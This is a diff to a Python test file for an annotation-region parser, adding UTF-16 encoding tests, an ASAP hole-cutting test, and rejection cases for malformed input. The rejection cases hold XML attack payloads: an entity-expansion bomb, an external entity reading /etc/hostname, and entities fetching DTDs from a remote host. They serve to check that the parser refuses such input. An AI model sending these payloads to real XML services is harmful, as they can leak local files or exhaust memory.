@@ -127,10 +127,33 @@ def test_imagescope(written):
     assert vessel.geometry.area == pytest.approx(3.14159 * 20 * 10, rel=2e-3)
 
 
-def test_utf16_as_imagescope_may_write_it(tmp_path):
-    path = tmp_path / "regions.xml"
-    path.write_text('<?xml version="1.0" encoding="utf-16"?>' + IMAGESCOPE, encoding="utf-16")
+@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
+def test_utf16_with_and_without_a_byte_order_mark(tmp_path, encoding):
+    path = tmp_path / "regions"
+    path.write_text('<?xml version="1.0" encoding="utf-16"?>' + IMAGESCOPE, encoding=encoding)
     assert len(read_regions(path)) == 2
+    path.write_text(json.dumps(BCNB), encoding=encoding)
+    assert len(read_regions(path)) == 3
+
+
+def test_asap_groups_of_holes_are_cut_from_the_smallest_outline_around_them(written):
+    def square(group, low, high):
+        corners = [(low, low), (high, low), (high, high), (low, high)]
+        vertices = "".join(f'<Coordinate Order="{i}" X="{x}" Y="{y}"/>' for i, (x, y) in enumerate(corners))
+        return (
+            f'<Annotation Name="{group}" Type="Polygon" PartOfGroup="{group}">'
+            f"<Coordinates>{vertices}</Coordinates></Annotation>"
+        )
+
+    drawn = [
+        square("Tumor", 0, 100),
+        square("Tumor", 5, 50),
+        square("Stroma", 9, 31),
+        square("Tumor hole", 10, 30),
+    ]
+    text = f"<ASAP_Annotations><Annotations>{''.join(drawn)}</Annotations></ASAP_Annotations>"
+    outer, inner, stroma = read_regions(written(text))
+    assert (outer.geometry.area, inner.geometry.area, stroma.geometry.area) == (10_000, 45**2 - 400, 484)
 
 
 BILLION_LAUGHS = """<?xml version="1.0"?>
@@ -138,6 +161,8 @@ BILLION_LAUGHS = """<?xml version="1.0"?>
   <!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">
 ]>
 <ASAP_Annotations><Annotations><Annotation Name="&c;" Type="Polygon"/></Annotations></ASAP_Annotations>"""
+PARAMETER_ENTITY = """<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % f SYSTEM "http://192.0.2.1/f.dtd"> %f;]>
+<Annotations/>"""
 ENTITY = """<?xml version="1.0"?><!DOCTYPE a [<!ENTITY f SYSTEM "file:///etc/hostname">]>
 <Annotations><Annotation Name="&f;"/></Annotations>"""
 
@@ -147,7 +172,11 @@ ENTITY = """<?xml version="1.0"?><!DOCTYPE a [<!ENTITY f SYSTEM "file:///etc/hos
     [
         (BILLION_LAUGHS, "defines XML entities"),
         (ENTITY, "defines XML entities"),
+        (PARAMETER_ENTITY, "defines XML entities"),
+        ('<!DOCTYPE a SYSTEM "http://192.0.2.1/a.dtd"><Annotations/>', "defines XML entities"),
+        ("<ASAP_Annotations>" + "<Annotations>" * 100_000, "nested too deeply"),
         ("<ASAP_Annotations><Annotations>", "not well-formed XML"),
+        ('<?xml version="1.0" encoding="klingon"?><Annotations/>', "not well-formed XML"),
         ("<html><body/></html>", "unknown root 'html'"),
         ("<ASAP_Annotations><Annotations/></ASAP_Annotations>", "holds no area"),
         ("<Annotations/>", "holds no area"),
